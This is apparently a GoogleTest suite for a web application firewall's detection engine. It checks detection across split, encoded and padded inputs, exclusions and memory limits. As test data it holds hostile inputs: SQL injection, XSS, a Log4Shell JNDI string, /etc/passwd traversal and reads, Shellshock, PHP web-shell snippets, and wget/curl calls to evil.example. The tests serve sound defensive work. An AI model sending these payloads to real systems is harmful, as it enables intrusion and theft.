#include "inspect/engine.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <optional>
#include <random>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"

#include "http/message.h"
#include "inspect/payload/request_fields.h"

namespace firebreak::inspect {
namespace {

// Cuts gives out a field in pieces of the given sizes, in turn.
void Give(absl::string_view bytes, const std::vector<size_t>& sizes, FieldSink& sink,
          Place place = Place::kQuery, absl::string_view name = "q") {
  sink.BeginField(place, name, false);
  for (size_t i = 0; !bytes.empty(); ++i) {
    const size_t size = std::min(bytes.size(), sizes[i % sizes.size()]);
    sink.FieldBytes(bytes.substr(0, size));
    bytes.remove_prefix(size);
  }
  sink.EndField();
}

std::string Summary(const Inspection& inspection) {
  std::vector<std::string> parts = {absl::StrCat(inspection.score())};
  for (const Finding& finding : inspection.findings()) {
    parts.push_back(
        absl::StrCat(finding.id, "@", finding.field, "=", finding.excerpt, "/", finding.layers));
  }
  return absl::StrJoin(parts, "\n");
}

std::vector<std::string> Samples() {
  const std::string filler(1500, 'a');
  const std::string words = [] {
    std::string text;
    while (text.size() < 2500) text += "one or two words and more ";
    return text;
  }();
  return {"7 union select 1,2 from t",
          "%2527%2520or%25201%253D1--",
          filler + "' or 'x'='x",
          words + "<script>alert(1)</script>" + words,
          filler + "${jndi:ldap://h/x}" + filler + filler,
          words + "../../../../etc/passwd",
          "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          std::string(1023, 'x') + "; cat /etc/passwd",
          words,
          ""};
}

TEST(Engine, FindsTheSameHoweverAFieldIsCut) {
  Engine engine(EngineOptions{});
  std::mt19937 random(7);  // the same run each time
  for (const std::string& sample : Samples()) {
    Inspection whole(engine);
    Give(sample, {1 << 20}, whole);
    for (size_t round = 0; round < 12; ++round) {
      std::vector<size_t> sizes = {1};
      if (round > 0) {
        sizes.clear();
        for (int i = 0; i < 9; ++i) sizes.push_back(1 + random() % (round * 40));
      }
      Inspection cut(engine);
      Give(sample, sizes, cut);
      EXPECT_EQ(Summary(cut), Summary(whole));
    }
  }
}

TEST(Engine, SeesAnAttackWhereverItStandsInALongField) {
  Engine engine(EngineOptions{});
  for (size_t before = 0; before < 2200; before += 37) {
    Inspection inspection(engine);
    Give(std::string(before, 'a') + " 7' union select pin,name from staff-- ", {64}, inspection);
    EXPECT_TRUE(inspection.blocks()) << before;
  }
}

TEST(Engine, SaysWhatItFoundWhereAndWhy) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  Give("x%27%20OR%201=1", {4}, inspection, Place::kForm, "amount");
  ASSERT_FALSE(inspection.findings().empty());
  const Finding& finding = inspection.findings().front();
  EXPECT_EQ(finding.id, "FBI-SQL-002");
  EXPECT_EQ(finding.field, "amount");
  EXPECT_EQ(finding.place, Place::kForm);
  EXPECT_EQ(finding.layers, 1U);
  EXPECT_EQ(finding.excerpt, "OR 1=1");
  EXPECT_FALSE(finding.why.empty());
  EXPECT_EQ(inspection.score(), kCritical);
}

TEST(Engine, CountsEachRuleOnceAMessage) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  for (int i = 0; i < 5; ++i) Give("information_schema tables", {64}, inspection);
  EXPECT_EQ(inspection.score(), kError);
  EXPECT_FALSE(inspection.blocks());
  EXPECT_EQ(inspection.findings().size(), 1U);
}

TEST(Engine, LooksNoFurtherThanItsParanoia) {
  Engine calm(EngineOptions{.paranoia = 1});
  Engine strict(EngineOptions{.paranoia = 2});
  Inspection calm_inspection(calm);
  Inspection strict_inspection(strict);
  Give("../up/x", {64}, calm_inspection);
  Give("../up/x", {64}, strict_inspection);
  EXPECT_EQ(calm_inspection.score(), 0);
  EXPECT_EQ(strict_inspection.score(), kWarning);
}

TEST(Engine, LeavesOutWhatIsExcluded) {
  const auto score = [](Exclusion exclusion) {
    EngineOptions options;
    options.exclusions.push_back(std::move(exclusion));
    Engine engine(std::move(options));
    Inspection inspection(engine);
    Give("<script>x</script>", {64}, inspection, Place::kForm, "body");
    return inspection.score();
  };
  EXPECT_EQ(score({.rule = "FBI-XSS-001", .place = "form", .field = "body"}), 0);
  EXPECT_EQ(score({.rule = "FBI-XSS-", .place = "", .field = ""}), 0);
  EXPECT_EQ(score({.rule = "", .place = "", .field = "body"}), 0);
  EXPECT_EQ(score({.rule = "FBI-SQL-", .place = "", .field = ""}), kCritical);
  EXPECT_EQ(score({.rule = "", .place = "query", .field = ""}), kCritical);
  EXPECT_EQ(score({.rule = "", .place = "", .field = "title"}), kCritical);
}

TEST(Engine, ExclusionsHoldOnTheirPathsAndForNamesAlone) {
  EngineOptions options;
  options.exclusions.push_back(
      {.rule = "FBI-XSS-", .place = "", .on_path = [](absl::string_view p) { return p == "/a"; }});
  options.exclusions.push_back({.rule = "", .place = "query", .names_only = true});
  Engine engine(std::move(options));
  const auto score = [&engine](absl::string_view path, bool is_name) {
    Inspection inspection(engine);
    inspection.ToPath(path);
    inspection.BeginField(Place::kQuery, "q", is_name);
    inspection.FieldBytes("<script>x</script>");
    inspection.EndField();
    return inspection.score();
  };
  EXPECT_EQ(score("/a", false), 0);
  EXPECT_EQ(score("/b", false), kCritical);
  EXPECT_EQ(score("/b", true), 0);
}

TEST(Engine, TakesInWhatOthersHaveFound) {
  static constexpr RuleInfo kHides = {"FBI-X-001", Category::kEncoding, kCritical, 2, "It hides."};
  Engine calm(EngineOptions{.paranoia = 1});
  Inspection unmoved(calm);
  EXPECT_FALSE(unmoved.Tell(kHides, Place::kHeader, "x", "y"));
  EXPECT_EQ(unmoved.score(), 0);
  Engine strict(EngineOptions{.paranoia = 2});
  Inspection inspection(strict);
  EXPECT_TRUE(inspection.Tell(kHides, Place::kHeader, "x", "y"));
  EXPECT_TRUE(inspection.blocks());
  EXPECT_EQ(inspection.hidden_by(), &kHides);
  inspection.Reset();
  EXPECT_EQ(inspection.hidden_by(), nullptr);
}

TEST(Engine, UndoesLayersOfEncodingUpToALimit) {
  Engine engine(EngineOptions{});
  for (const char* const text :
       {"%3Cscript%3E", "%253Cscript%253E", "%25253Cscript%25253E", "&lt;script&gt;",
        "\\u003cscript\\u003e", "PHNjcmlwdD54PC9zY3JpcHQ+IGFuZCBtb3Jl",
        "%50%48%4E%6A%63%6D%6C%77%64%44%35%34%50%43%39%7A%59%33%4A%70%63%48%51%2B"}) {
    Inspection inspection(engine);
    Give(text, {64}, inspection);
    EXPECT_TRUE(inspection.blocks()) << text;
  }
}

TEST(Engine, ReadsHeadersByWhatTheyAreFor) {
  Engine engine(EngineOptions{});
  Inspection plain(engine);
  Give("text/html;q=0.9,*/*;q=0.8", {64}, plain, Place::kHeader, "accept");
  Give("W/\"a' or 'a'='a\"", {64}, plain, Place::kHeader, "if-none-match");
  Give("Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/2", {64}, plain, Place::kHeader,
       "user-agent");
  EXPECT_EQ(plain.score(), 0);
  for (const char* const text : {"${jndi:ldap://h/x}", "() { :; }; id"}) {
    Inspection attack(engine);
    Give(text, {64}, attack, Place::kHeader, "accept");
    EXPECT_TRUE(attack.blocks()) << text;
  }
}

TEST(Engine, KeepsToItsMemory) {
  static_assert(sizeof(Inspection) <= 2048);
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  const std::string megabyte(1 << 20, 'x');
  Give(megabyte, {1 << 20}, inspection);
  EXPECT_EQ(inspection.findings().capacity(), 0U);
}

TEST(Engine, IsReadyForTheNextMessageAfterReset) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  Give("<script>", {64}, inspection);
  EXPECT_TRUE(inspection.blocks());
  inspection.Reset();
  EXPECT_EQ(inspection.score(), 0);
  EXPECT_TRUE(inspection.findings().empty());
  Give("<script>", {64}, inspection);
  EXPECT_TRUE(inspection.blocks());
}

TEST(Engine, DoesNotTakeWordsThatAWindowCutsForCommands) {
  const auto score = [](const std::string& field) {
    Engine engine(EngineOptions{});
    Inspection inspection(engine);
    inspection.BeginField(Place::kBytes, "", false);
    inspection.FieldBytes(field);
    inspection.EndField();
    return inspection.score();
  };
  // "shop" and "reduce", of which a window ends behind "sh" and another one begins before "du".
  EXPECT_EQ(score(std::string(kMaxView - 3, 'a') + "\nshop and more"), 0);
  EXPECT_EQ(score(std::string(Inspection::kWindowStep - 2, 'a') + "redu -s of words"), 0);
  EXPECT_GE(score(std::string(kMaxView - 3, 'a') + "\nsh"), 5);
  EXPECT_GE(score(std::string(kMaxView - 3, 'a') + "\nsh -c x"), 5);
  EXPECT_GE(score("du -s /"), 5);
}

TEST(Engine, JoinsWhatBlanksKeepApart) {
  Engine engine(EngineOptions{});
  for (const size_t before : {size_t{0}, size_t{500}, size_t{700}, size_t{760}}) {
    for (const char* const blanks : {" ", "\t", "\r\n"}) {
      std::string text(before, 'A');
      absl::StrAppend(&text, "x' or");
      for (int i = 0; i < 900; ++i) absl::StrAppend(&text, blanks);
      absl::StrAppend(&text, "1=1-- ");
      for (const size_t size : {size_t{7}, size_t{64}, size_t{5000}}) {
        Inspection inspection(engine);
        Give(text, {size}, inspection, Place::kForm);
        EXPECT_TRUE(inspection.blocks()) << before << " in pieces of " << size;
      }
    }
  }
}

TEST(Engine, TriesMoreThanTheFirstQuoteOfAField) {
  Engine engine(EngineOptions{});
  for (const char* const decoy : {"", "it's ", "it's \"x ", "it's \"x `y "}) {
    Inspection inspection(engine);
    Give(absl::StrCat(decoy, "&id=x' or 'a'='a&z="), {64}, inspection, Place::kForm);
    EXPECT_TRUE(inspection.blocks()) << decoy;
  }
}

TEST(Engine, CountsWhatIsGivenBeside) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  inspection.BeginField(Place::kXml, "/a", false);
  FieldSink* const beside = inspection.Beside();
  ASSERT_NE(beside, nullptr);
  Give("1 union select a,b from c", {8}, *beside, Place::kForm, "id");
  inspection.FieldBytes("<script>x");
  inspection.EndField();
  ASSERT_GE(inspection.findings().size(), 2U);
  EXPECT_EQ(inspection.findings().front().field, "id");
  EXPECT_EQ(inspection.findings().back().field, "/a");
  EXPECT_GE(inspection.score(), 2 * kCritical);
}

TEST(Engine, FindsTheSameInHeadersThatComeAgain) {
  Engine engine(EngineOptions{});
  std::string first;
  for (int i = 0; i < 3; ++i) {
    Inspection inspection(engine);
    Give("one or two", {64}, inspection, Place::kHeader, "x-a");
    Give("information_schema.tables", {64}, inspection, Place::kHeader, "x-b");
    Give("../../../../etc/passwd", {64}, inspection, Place::kHeader, "x-c");
    Give("../../../../etc/passwd", {64}, inspection, Place::kHeader, "x-d");
    if (i == 0) first = Summary(inspection);
    EXPECT_EQ(Summary(inspection), first);
    EXPECT_TRUE(inspection.blocks());
  }
}

TEST(Engine, DoesNotTakeAnExclusionForOneFieldForAnother) {
  EngineOptions options;
  options.exclusions.push_back({.rule = "FBI-XSS-", .place = "header", .field = "x-page"});
  Engine engine(std::move(options));
  for (int i = 0; i < 2; ++i) {
    Inspection inspection(engine);
    Give("<script>x</script>", {64}, inspection, Place::kHeader, "x-page");
    EXPECT_FALSE(inspection.blocks());
    Give("<script>x</script>", {64}, inspection, Place::kHeader, "x-other");
    EXPECT_TRUE(inspection.blocks());
  }
}

// How many fields a request has for an inspection, and what is found in it.
class Counted final : public FieldSink {
 public:
  explicit Counted(Inspection& inspection) : inspection_(inspection) {}
  void BeginField(Place place, absl::string_view name, bool is_name) override {
    ++count_;
    inspection_.BeginField(place, name, is_name);
  }
  void FieldBytes(absl::string_view bytes) override { inspection_.FieldBytes(bytes); }
  void EndField() override { inspection_.EndField(); }
  std::optional<uint64_t> Recall(Place place, absl::string_view whole) override {
    return inspection_.Recall(place, whole);
  }
  void Remember(uint64_t note) override { inspection_.Remember(note); }
  size_t count() const { return count_; }

 private:
  Inspection& inspection_;
  size_t count_ = 0;
};

struct Looked {
  size_t fields;
  std::string summary;
};

Looked LookAt(Engine& engine, const http::Request& request) {
  const StructureLimits limits;
  Inspection inspection(engine);
  Counted counted(inspection);
  RequestFields(limits, counted, inspection).Headers(request);
  return {counted.count(), Summary(inspection)};
}

std::string Times(size_t count, absl::string_view text) {
  std::string all;
  while (count-- > 0) absl::StrAppend(&all, text);
  return all;
}

TEST(Engine, ATargetThatComesAgainIsNotTakenApartAgainAndSaysTheSame) {
  http::Request odd;
  odd.path = "/" + Times(500, "(/");
  odd.query = Times(500, "a=%zz&");
  odd.has_query = true;
  odd.headers.Add("cookie", Times(100, "a=1; "));
  Engine engine(EngineOptions{});
  const Looked first = LookAt(engine, odd);
  const Looked again = LookAt(engine, odd);
  EXPECT_GT(first.fields, 1'500U);
  EXPECT_EQ(again.fields, 0U);
  EXPECT_EQ(again.summary, first.summary);
  EXPECT_TRUE(absl::StrContains(first.summary, "FBI-STR-001")) << first.summary;
}

TEST(Engine, ATargetInWhichSomethingWasFoundIsTakenApartEveryTime) {
  http::Request attack;
  attack.path = "/";
  attack.query = Times(50, "a=1&") + "id=1'+UNION+SELECT+name,+password+FROM+users--+";
  attack.has_query = true;
  Engine engine(EngineOptions{});
  const Looked first = LookAt(engine, attack);
  const Looked again = LookAt(engine, attack);
  EXPECT_EQ(again.fields, first.fields);
  EXPECT_EQ(again.summary, first.summary);
  EXPECT_TRUE(absl::StrContains(again.summary, "FBI-SQL-"));
}

TEST(Engine, RandomBytesOfFilesAreNoAttack) {
  Engine engine(EngineOptions{});
  std::minstd_rand random(7);  // the same bytes in each run
  for (int file = 0; file < 200; ++file) {
    std::string bytes(6000, '\0');
    for (char& byte : bytes) byte = static_cast<char>(random() >> 8U);
    Inspection inspection(engine);
    Give(bytes, {bytes.size()}, inspection, Place::kMultipart, "photo");
    EXPECT_FALSE(inspection.blocks()) << Summary(inspection);
  }
}

TEST(Engine, FindsCodeAndObjectsBetweenTheBytesOfAFile) {
  Engine engine(EngineOptions{});
  const std::string picture = "GIF89a" + std::string(900, '\x01');
  for (const std::string& bytes :
       {picture + "<?php eval($_GET['x']); ?>", picture + "<script>x</script>",
        picture + "${jndi:ldap://h/x}", picture + "x' union select 1,2 from t",
        std::string("\xac\xed\x00\x05sr\x00\x01", 8) + picture}) {
    Inspection inspection(engine);
    Give(bytes, {bytes.size()}, inspection, Place::kMultipart, "photo");
    EXPECT_TRUE(inspection.blocks()) << bytes.substr(0, 9);
  }
}

TEST(Engine, JunkDoesNotMakeAParameterAFile) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  Give(std::string(64, '\x01') + "; cat /etc/passwd;" + std::string(64, '\x01'), {200}, inspection);
  EXPECT_TRUE(inspection.blocks()) << Summary(inspection);
}

TEST(Engine, AFewOddBytesDoNotHideAShortAttackInAPartOfAForm) {
  Engine engine(EngineOptions{});
  for (const absl::string_view text :
       {"\x01\x01;wget http://evil.example/x", "\x01\x01$(curl evil.example)"}) {
    Inspection inspection(engine);
    Give(text, {200}, inspection, Place::kMultipart);
    EXPECT_TRUE(inspection.blocks()) << text.substr(2) << Summary(inspection);
  }
}

TEST(Engine, AccidentsInAPictureHideNoAttackBehindThem) {
  Engine engine(EngineOptions{});
  Inspection inspection(engine);
  std::string picture = "GIF89a";
  for (int i = 0; i < 200; ++i) picture.push_back(static_cast<char>(1 + i % 9));
  picture += "<%=\x01 popen(\x01 <?php system($_GET[0]);?>";
  Give(picture, {300}, inspection, Place::kMultipart);
  EXPECT_TRUE(inspection.blocks()) << Summary(inspection);
}

TEST(Engine, LooksAtNamesOfLettersAloneThatMeanSomething) {
  Engine engine(EngineOptions{});
  for (const absl::string_view parent : {"$.constructor", "$.a[].constructor"}) {
    Inspection inspection(engine);
    inspection.BeginField(Place::kJson, parent, /*is_name=*/true);
    inspection.FieldBytes("prototype");
    inspection.EndField();
    EXPECT_TRUE(inspection.blocks()) << parent;
  }
  for (const absl::string_view segment : {"id_rsa", "WEB-INF"}) {
    Inspection inspection(engine);
    Give(segment, {16}, inspection, Place::kPath, "");
    EXPECT_TRUE(inspection.blocks()) << segment;
  }
}

}  // namespace
}  // namespace firebreak::inspect
